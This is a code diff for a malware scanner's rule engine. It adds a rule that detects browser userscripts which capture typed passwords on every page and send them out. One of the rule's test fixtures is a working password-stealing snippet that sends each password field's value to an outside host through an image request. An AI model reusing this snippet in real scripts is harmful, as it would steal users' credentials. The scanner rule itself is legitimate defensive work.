@@ -4,6 +4,7 @@ use super::exfiltration::{ENCODE, FLOW};
 use super::judges;
 use super::secrets;
 use super::signals;
+use super::taint::WAY_OUT;
 use crate::finding::{Category, Severity};
 use crate::layers::rule_engine::rule::{Kind, Rule, When};
 use crate::layers::rule_engine::signal::Signal;
@@ -47,6 +48,12 @@ static IN_EVERY_PAGE: Signal = Signal::command(
 static TYPED_IN: Signal = Signal::command(
     &["addeventlistener", "formdata", "onkeydown", "onkeyup", "onkeypress", "onsubmit"],
     r"\baddEventListener\s*\(\s*[\x22'](?:keydown|keyup|keypress|submit|input|change)[\x22']|\bnew\s+FormData\s*\(\s*\w|\bon(?:keydown|keyup|keypress|submit)\s*=",
+);
+
+/// What is typed into a field for passwords.
+static PASSWORD_FIELD: Signal = Signal::command(
+    &["password"],
+    r"\binput\[type=\\?[\x22']?password|\.type\s*===?\s*[\x22']password",
 );
 
 pub(super) static RULES: &[Rule] = &[
@@ -151,6 +158,21 @@ pub(super) static RULES: &[Rule] = &[
             "@s.user.js\n// @match *://*/*\ndocument.addEventListener('keydown', (e) => { if (e.key === 'j') scrollBy(0, 99); });\n",
             "@s.js\nform.addEventListener('submit', () => fetch('/save', { method: 'POST', body: new FormData(form) }));\n",
         ],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-EXFIL-087",
+        title: "Passwords that are typed into any page are sent",
+        severity: Severity::Critical,
+        confidence: 84,
+        category: Category::DataExfiltration,
+        taxa: &["EX-10", "EX-03"],
+        kind: Kind::Fact,
+        why: "no script that runs in every page needs what stands in its password fields",
+        fix: "remove the script from the browser; change the passwords that were typed",
+        when: When::Package(&[&[&IN_EVERY_PAGE], &[&PASSWORD_FIELD], &[&WAY_OUT]]),
+        hits: &["@s.user.js\n// @match *://*/*\nfor (const f of document.querySelectorAll('input[type=password]')) {\n  f.onchange = () => { new Image().src = 'https://s.fast-agent.top/p?v=' + f.value; };\n}\n"],
+        misses: &["@s.user.js\n// @match *://*/*\nfor (const f of document.querySelectorAll('input[type=password]')) {\n  f.type = 'text';\n}\n"],
         ..Rule::BASE
     },
 ];
